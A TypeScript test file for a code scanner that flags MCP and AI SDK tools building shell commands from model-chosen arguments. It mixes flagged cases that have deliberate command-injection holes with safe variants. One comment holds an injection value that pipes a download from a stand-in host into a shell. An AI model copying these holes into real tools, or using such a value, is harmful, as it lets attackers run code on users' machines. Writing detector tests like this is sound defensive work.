// MCP servers and AI SDK tools that run shell commands built from the arguments the model chose.
import { exec, execFile, execSync, spawn } from 'child_process';
import { promisify } from 'util';
import { McpServer } from '@modelcontextprotocol/sdk/server/mcp.js';
import { Server } from '@modelcontextprotocol/sdk/server/index.js';
import { CallToolRequestSchema } from '@modelcontextprotocol/sdk/types.js';
import { tool } from 'ai';
import { quote } from 'shell-quote';
import { z } from 'zod';

const execAsync = promisify(exec);
const server = new McpServer({ name: 'devtools', version: '1.0.0' });
const ALLOWED = new Set(['build', 'test', 'lint']);

function runShell(command: string): string {
  // ruleid: llm-output-code-execution
  return execSync(command, { encoding: 'utf8' });
}

function gitCommand(sub: string, ref: string): string {
  return `git ${sub} ${ref}`;
}

server.tool('grep', { pattern: z.string(), dir: z.string() }, async ({ pattern, dir }) => {
  const cmd = `grep -rn ${pattern} ${dir}`;
  // ruleid: llm-output-code-execution
  const { stdout } = await execAsync(cmd);
  return { content: [{ type: 'text', text: stdout }] };
});

server.registerTool('show_log', { inputSchema: { ref: z.string() } }, async ({ ref }) => {
  const out = runShell(gitCommand('log', ref));
  return { content: [{ type: 'text', text: out }] };
});

// a script runner: running the script its MCP client sends is the tool's declared purpose (the client
// approves each call); that capability is reported by destructive-tool-without-annotations, not as an injection
server.registerTool('run_script', { inputSchema: { script: z.string() } }, async ({ script }) => {
  const args = ['-c', script];
  // ok: llm-output-code-execution
  const child = spawn('sh', [...args]);
  return { content: [{ type: 'text', text: String(child.pid) }] };
});

server.registerTool('archive', { inputSchema: { name: z.string() } }, async ({ name }) => {
  // the name is formatted into a fixed command line: `x; curl evil | sh` runs too
  // ruleid: llm-output-code-execution
  const child = spawn('sh', ['-c', `tar czf ${name}.tgz src`]);
  return { content: [{ type: 'text', text: String(child.pid) }] };
});

server.tool('make', { target: z.string() }, async ({ target }) => {
  if (!ALLOWED.has(target)) throw new Error('unknown target');
  // ok: llm-output-code-execution
  const out = execSync(`make ${target}`).toString();
  return { content: [{ type: 'text', text: out }] };
});

server.tool('grep_quoted', { pattern: z.string() }, async ({ pattern }) => {
  // ok: llm-output-code-execution
  const out = execSync(`grep -rn ${quote([pattern])} .`).toString();
  return { content: [{ type: 'text', text: out }] };
});

server.tool('grep_argv', { pattern: z.string() }, async ({ pattern }) => {
  // ok: llm-output-code-execution
  const out = await promisify(execFile)('grep', ['-rn', '--', pattern, '.']);
  return { content: [{ type: 'text', text: out.stdout }] };
});

const lowLevel = new Server({ name: 'shell', version: '1.0.0' }, { capabilities: { tools: {} } });

lowLevel.setRequestHandler(CallToolRequestSchema, async (request) => {
  const { name, arguments: args } = request.params;
  if (name === 'run') {
    // a command runner: the whole command is what the client sends
    const command = String(args?.command ?? '');
    // ok: llm-output-code-execution
    const out = execSync(command).toString();
    return { content: [{ type: 'text', text: out }] };
  }
  if (name === 'checkout') {
    // ruleid: llm-output-code-execution
    const out = execSync(`git checkout ${args?.branch}`).toString();
    return { content: [{ type: 'text', text: out }] };
  }
  if (name === 'status') {
    // ok: llm-output-code-execution
    const out = execSync('git status --short').toString();
    return { content: [{ type: 'text', text: out }] };
  }
  return { content: [] };
});

lowLevel.setRequestHandler(CallToolRequestSchema, async (request) => {
  const cmd = ['bash', '-c', request.params.arguments?.script as string];
  // ok: llm-output-code-execution
  const child = spawn(cmd[0], cmd.slice(1));
  return { content: [{ type: 'text', text: String(child.pid) }] };
});

export const terminal = tool({
  description: 'Run a terminal command',
  inputSchema: z.object({ command: z.string(), cwd: z.string() }),
  execute: async ({ command, cwd }) => {
    return new Promise((resolve) => {
      // ruleid: llm-output-code-execution
      exec(`cd ${cwd} && ${command}`, (err, stdout) => resolve(stdout));
    });
  },
});

export const listFiles = tool({
  description: 'List the files of the project',
  inputSchema: z.object({}),
  execute: async () => {
    // ok: llm-output-code-execution
    return execSync('ls -la').toString();
  },
});
